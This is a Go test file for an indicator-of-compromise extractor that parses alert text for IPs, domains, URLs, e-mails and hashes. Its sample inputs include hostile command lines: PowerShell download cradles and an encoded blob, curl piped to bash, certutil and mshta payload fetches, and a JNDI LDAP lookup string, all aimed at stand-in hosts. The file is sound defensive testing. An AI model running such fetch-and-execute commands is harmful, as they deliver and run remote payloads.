package ioc

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func ip(v string, s Scope) Indicator  { return Indicator{Kind: IPv4, Value: v, Scope: s} }
func ip6(v string, s Scope) Indicator { return Indicator{Kind: IPv6, Value: v, Scope: s} }
func dom(v string) Indicator          { return Indicator{Kind: Domain, Value: v} }
func host(v string) Indicator         { return Indicator{Kind: Hostname, Value: v} }
func url(v string) Indicator          { return Indicator{Kind: URL, Value: v} }
func urlIP(v string, s Scope) Indicator {
	return Indicator{Kind: URL, Value: v, Scope: s}
}
func email(v string) Indicator { return Indicator{Kind: Email, Value: v} }
func md5(v string) Indicator   { return Indicator{Kind: MD5, Value: v} }
func sha1(v string) Indicator  { return Indicator{Kind: SHA1, Value: v} }
func sha256(v string) Indicator {
	return Indicator{Kind: SHA256, Value: v}
}

const (
	hMD5    = "44d88612fea8a8f36de82e1278abb02f"
	hSHA1   = "3395856ce81f2b7382dee72602f798b642f14140"
	hSHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
)

func TestExtract(t *testing.T) {
	tests := []struct {
		name string
		text string
		want []Indicator
	}{
		{
			name: "powershell download cradle",
			text: `powershell.exe -nop -w hidden -c "IEX (New-Object System.Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"`,
			want: []Indicator{urlIP("http://198.51.100.7/a.ps1", Documentation), ip("198.51.100.7", Documentation)},
		},
		{
			name: "powershell -enc blob is not hashes or names",
			text: "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc " +
				"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA= " +
				"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE1akAA= " +
				"ABCDEF0123456789ABCDEF0123456789+ " + "abcdef0123456789abcdef0123456789==",
			want: nil,
		},
		{
			name: "curl piped to bash",
			text: `curl -sSL http://203.0.113.50:8080/install.sh | bash -s -- --token=abc && wget -q https://evil.example.com/x -O /tmp/x.sh`,
			want: []Indicator{
				urlIP("http://203.0.113.50:8080/install.sh", Documentation), ip("203.0.113.50", Documentation),
				url("https://evil.example.com/x"), host("evil.example.com"),
			},
		},
		{
			name: "certutil urlcache",
			text: `certutil.exe -urlcache -split -f "https://cdn.evil-example.com/files/update.exe" %TEMP%\update.exe`,
			want: []Indicator{url("https://cdn.evil-example.com/files/update.exe"), host("cdn.evil-example.com")},
		},
		{
			name: "certutil defanged",
			text: `certutil.exe -urlcache -split -f hxxps://evil[.]example[.]com/payload.exe C:\Users\Public\payload.exe`,
			want: []Indicator{url("https://evil.example.com/payload.exe"), host("evil.example.com")},
		},
		{
			name: "mshta vbscript",
			text: `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -c iwr hxxp://evil[.]example/x.ps1 -OutFile C:\Users\Public\x.ps1"":close")`,
			want: []Indicator{url("http://evil.example/x.ps1"), dom("evil.example")},
		},
		{
			name: "alert description",
			text: "The host WKSTN-042.corp.contoso.com (10.1.2.3) connected to 185.220.101.45 over Tor. " +
				"A file with SHA256 " + strings.ToUpper(hSHA256) + " was downloaded from https://evil.example.com/a.zip. " +
				"User alice@contoso.com was involved; contact SOC@Contoso.com.",
			want: []Indicator{
				host("wkstn-042.corp.contoso.com"), ip("10.1.2.3", Private), ip("185.220.101.45", Public),
				sha256(hSHA256), url("https://evil.example.com/a.zip"), host("evil.example.com"),
				email("alice@contoso.com"), email("soc@contoso.com"),
			},
		},
		{
			name: "hashes of each length",
			text: "md5=" + hMD5 + ", sha1:" + hSHA1 + " (" + hSHA256 + ") " + hMD5 + ".exe sample_" + hSHA1 + ".bin",
			want: []Indicator{md5(hMD5), sha1(hSHA1), sha256(hSHA256)},
		},
		{
			name: "hash-like runs that are not hashes",
			text: "x" + hMD5 + " " + hMD5 + "g " + hMD5[:31] + " " + hSHA256 + "00 " +
				"00000000000000000000000000000000 12345678901234567890123456789012 " +
				"abcdefabcdefabcdefabcdefabcdefab {3f2504e0-4f89-11d3-9a0c-0305e82c3301}",
			want: nil,
		},
		{
			name: "version strings",
			text: "Updated Edge from 120.0.2210.91 to 121.0.2277.83; build 10.0.19045.3693; version 1.2.3.4.5; v2.4.1.3; " +
				"Mozilla/5.0 AppleWebKit/537.36 Chrome/120.1.2.3 Safari/537.36; python3.11; 1.2.3; 2024.01.02",
			want: nil,
		},
		{
			name: "file names",
			text: `Dropped invoice.pdf.exe, report.zip, REPORT.ZIP, setup.py, README.md, a.ps1, evil.exe, payload.dll, archive.tar.gz, ` +
				`notes.txt, Invoice_2024.pdf.zip, scan.jpg.one, run.sh, lib.so, C:\Windows\win.com, /usr/bin/evil.com, .env.local, ` +
				`Notes.one, doc.cat`,
			want: nil,
		},
		{
			name: "code identifiers",
			text: `[System.Net.ServicePointManager]::SecurityProtocol; System.IO.File; System.Net; Microsoft.PowerShell.Security\Get-Acl; ` +
				`com.example.app; org.apache.commons.io; document.write(x); [Convert]::FromBase64String($s); std::vector; [List]::Add($x)`,
			want: nil,
		},
		{
			name: "real TLDs that are also extensions need more labels or a URL",
			text: "see evil.zip and cdn.evil.zip and http://invoice.zip/a and https://clip.mov",
			want: []Indicator{
				host("cdn.evil.zip"), url("http://invoice.zip/a"), dom("invoice.zip"), url("https://clip.mov"), dom("clip.mov"),
			},
		},
		{
			name: "prefix-sharing IPs are distinct",
			text: "10.0.0.1 10.0.0.10 10.0.0.100, 10.0.0.1; 10.0.0.1:445 (10.0.0.10)",
			want: []Indicator{ip("10.0.0.1", Private), ip("10.0.0.10", Private), ip("10.0.0.100", Private)},
		},
		{
			name: "IPv4 forms",
			text: "[8.8.8.8] 1.1.1.1. ip=9.9.9.9, 192.168.0.0/16 10.0.0.1-10.0.0.9 1.2.3[.]4 256.1.1.1 010.1.1.1 a.1.2.3.4 1.2.3.4x",
			want: []Indicator{
				ip("8.8.8.8", Public), ip("1.1.1.1", Public), ip("9.9.9.9", Public), ip("192.168.0.0", Private),
				ip("10.0.0.1", Private), ip("10.0.0.9", Private), ip("1.2.3.4", Public),
			},
		},
		{
			name: "IPv6 forms",
			text: "from 2001:db8::1, [2001:db8:0:0:0:0:0:2]:443 and fe80::1%eth0, ::1; " +
				"2001:DB8:85A3:0000:0000:8A2E:0370:7334 ::ffff:192.0.2.1 64:ff9b::203.0.113.9 IPv6:2606:4700:4700::1111. " +
				"12:30:45 00:1a:2b:3c:4d:5e dead::beef",
			want: []Indicator{
				ip6("2001:db8::1", Documentation), ip6("2001:db8::2", Documentation), ip6("fe80::1", LinkLocal),
				ip6("::1", Loopback), ip6("2001:db8:85a3::8a2e:370:7334", Documentation), ip("192.0.2.1", Documentation),
				ip6("64:ff9b::cb00:7109", Documentation), ip6("2606:4700:4700::1111", Public),
			},
		},
		{
			name: "e-mail addresses yield only the address",
			text: "From: Alice <Alice.Smith@Example.com>; reply-to: bob(at)evil[.]com, mailto:carol+x@mail.example.org. Not: @handle, a@b, x@cmd.exe",
			want: []Indicator{email("alice.smith@example.com"), email("bob@evil.com"), email("carol+x@mail.example.org")},
		},
		{
			name: "dedup keeps the first appearance",
			text: "evil.com EVIL.COM evil.com. https://evil.com/a https://evil.com/a http://evil.com",
			want: []Indicator{dom("evil.com"), url("https://evil.com/a"), url("http://evil.com")},
		},
		{
			name: "URL punctuation",
			text: `See (https://evil.example.com/a_(b)). Also "http://x.example.org/q?a=1&b=2", <http://y.example.net/>, ` +
				`[link](http://z.example.com/p), 'ftp://files.example.com/f.txt'; http://evil.example.com:8443/x! and http://evil.example.com.`,
			want: []Indicator{
				url("https://evil.example.com/a_(b)"), host("evil.example.com"),
				url("http://x.example.org/q?a=1&b=2"), host("x.example.org"),
				url("http://y.example.net/"), host("y.example.net"),
				url("http://z.example.com/p"), host("z.example.com"),
				url("ftp://files.example.com/f.txt"), host("files.example.com"),
				url("http://evil.example.com:8443/x"), url("http://evil.example.com"),
			},
		},
		{
			name: "URLs in HTML and CJK text",
			text: `<a href=&quot;http://evil.example.com/a?b=1&amp;c=2&quot;&gt;x</a> 请访问https://evil.example.cn/路径。谢谢`,
			want: []Indicator{
				url("http://evil.example.com/a?b=1&amp;c=2"), host("evil.example.com"),
				url("https://evil.example.cn/路径"), host("evil.example.cn"),
			},
		},
		{
			name: "URL lists",
			text: "http://a.example.com,http://b.example.com;https://[2001:db8::7]:8443/x",
			want: []Indicator{
				url("http://a.example.com"), host("a.example.com"), url("http://b.example.com"), host("b.example.com"),
				urlIP("https://[2001:db8::7]:8443/x", Documentation), ip6("2001:db8::7", Documentation),
			},
		},
		{
			name: "nested redirect and hash in URL",
			text: "https://t.example.com/r?u=https%3A%2F%2Fevil.example.org%2Fa%3Fip%3D203.0.113.9 " +
				"https://www.virustotal.com/gui/file/" + hSHA256 + "/detection",
			want: []Indicator{
				url("https://t.example.com/r?u=https%3A%2F%2Fevil.example.org%2Fa%3Fip%3D203.0.113.9"), host("t.example.com"),
				url("https://evil.example.org/a?ip=203.0.113.9"), host("evil.example.org"), ip("203.0.113.9", Documentation),
				url("https://www.virustotal.com/gui/file/" + hSHA256 + "/detection"), host("www.virustotal.com"), sha256(hSHA256),
			},
		},
		{
			name: "URLs without a scheme",
			text: "visit www.example.com/path?q=1 or evil.example.net:8080/gate.php, not example.org/ or /var/www/site.example.com/x",
			want: []Indicator{
				url("http://www.example.com/path?q=1"), host("www.example.com"),
				url("http://evil.example.net:8080/gate.php"), host("evil.example.net"),
				dom("example.org"),
			},
		},
		{
			name: "other schemes give the host",
			text: "${jndi:ldap://evil.example.com:1389/a} smb://fs01.contoso.local/share file:///etc/passwd",
			want: []Indicator{host("evil.example.com"), host("fs01.contoso.local")},
		},
		{
			name: "UNC paths and internal names",
			text: `net use \\fileserver.contoso.local\share; copy \\10.0.0.5\c$\x.exe; ping dc01.corp.contoso.com; nslookup contoso.local`,
			want: []Indicator{
				host("fileserver.contoso.local"), ip("10.0.0.5", Private), host("dc01.corp.contoso.com"), dom("contoso.local"),
			},
		},
		{
			name: "DNS names with underscores",
			text: "QueryName: _ldap._tcp.dc._msdcs.contoso.com, _dmarc.example.org. my_host.example.com",
			want: []Indicator{
				host("_ldap._tcp.dc._msdcs.contoso.com"), host("_dmarc.example.org"), host("my_host.example.com"),
			},
		},
		{
			name: "JSON",
			text: `{"RemoteUrl":"http://a.example.net/x","RemoteIP":"2001:db8::42","Domain":"evil.example","Sha1":"` + hSHA1 + `"}`,
			want: []Indicator{
				url("http://a.example.net/x"), host("a.example.net"), ip6("2001:db8::42", Documentation),
				dom("evil.example"), sha1(hSHA1),
			},
		},
		{
			name: "non-ASCII neighbours",
			text: "访问evil.cn。 bücher.de café.example.com",
			want: []Indicator{dom("evil.cn")},
		},
		{
			name: "empty", text: "", want: nil,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Extract(tt.text)
			if diff := cmp.Diff(tt.want, got, cmpEmpty); diff != "" {
				t.Errorf("Extract(%q) mismatch (-want +got):\n%s", tt.text, diff)
			}
		})
	}
}

// cmpEmpty treats nil and empty slices as equal.
var cmpEmpty = cmp.FilterValues(func(x, y []Indicator) bool { return len(x) == 0 && len(y) == 0 },
	cmp.Comparer(func(_, _ []Indicator) bool { return true }))

// hostile inputs that a backtracking or quadratic scanner would choke on.
func hostileInputs() map[string]string {
	const n = 100 << 10
	rep := func(s string) string { return strings.Repeat(s, n/len(s)+1)[:n] }
	return map[string]string{
		"dots":          rep("a."),
		"digits-dots":   rep("1."),
		"colons":        rep("1:"),
		"hex":           rep("a"),
		"at":            rep("a@"),
		"at-domains":    rep("a@b.c"),
		"schemes":       rep("http://"),
		"bad-urls":      rep("http://a:99999/"),
		"bare-urls":     rep("a.com:99999/"),
		"url-parens":    "http://example.com/" + rep(")"),
		"long-url":      "http://example.com/" + rep("a/b.com/"),
		"nested-urls":   rep("http://x.com/?u="),
		"brackets":      rep("[.]"),
		"hxxp":          rep("hxxp"),
		"backslashes":   rep(`\\a.com\`),
		"utf8":          rep("é."),
		"invalid-utf8":  rep("\xff."),
		"emails":        rep("a.b@c.com "),
		"names":         rep("www.example.com "),
		"mixed":         rep("10.0.0.1 " + hMD5 + " evil.example.com http://x.example.org/a "),
		"ipv6":          rep("2001:db8::1 "),
		"long-label":    rep("abcdefghij") + ".com",
		"long-hex-dots": rep("abcdef0123.") + "com",
	}
}

func TestExtractHostile(t *testing.T) {
	for name, text := range hostileInputs() {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			got := Extract(text)
			// Generous: a linear scan takes milliseconds; a quadratic one minutes.
			if d := time.Since(start); d > 2*time.Second {
				t.Errorf("Extract on 100 KB took %v (%d indicators)", d, len(got))
			}
		})
	}
}

func BenchmarkExtract(b *testing.B) {
	text := benchText()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		Extract(text)
	}
}

// benchText returns about 10 KB of mixed alert text, command lines and mail.
func benchText() string {
	var sb strings.Builder
	for i := 0; sb.Len() < 10<<10; i++ {
		fmt.Fprintf(&sb, "Alert %d: host WKSTN-%03d.corp.contoso.com (10.1.%d.%d) ran ", i, i, i%256, (i*7)%256)
		fmt.Fprintf(&sb, `powershell.exe -nop -c "IEX (New-Object System.Net.WebClient).DownloadString('hxxp://evil%d[.]example[.]com/a.ps1')" `, i)
		fmt.Fprintf(&sb, "and contacted 203.0.113.%d:443 and 2001:db8::%x. File %s.exe (SHA256 %s) from invoice.pdf.zip, ", i%256, i, hMD5, hSHA256)
		fmt.Fprintf(&sb, "version 10.0.19045.%d. Reported by soc%d@contoso.com; see https://portal.example.org/incidents/%d?tab=alerts.\n", i, i, i)
	}
	return sb.String()
}
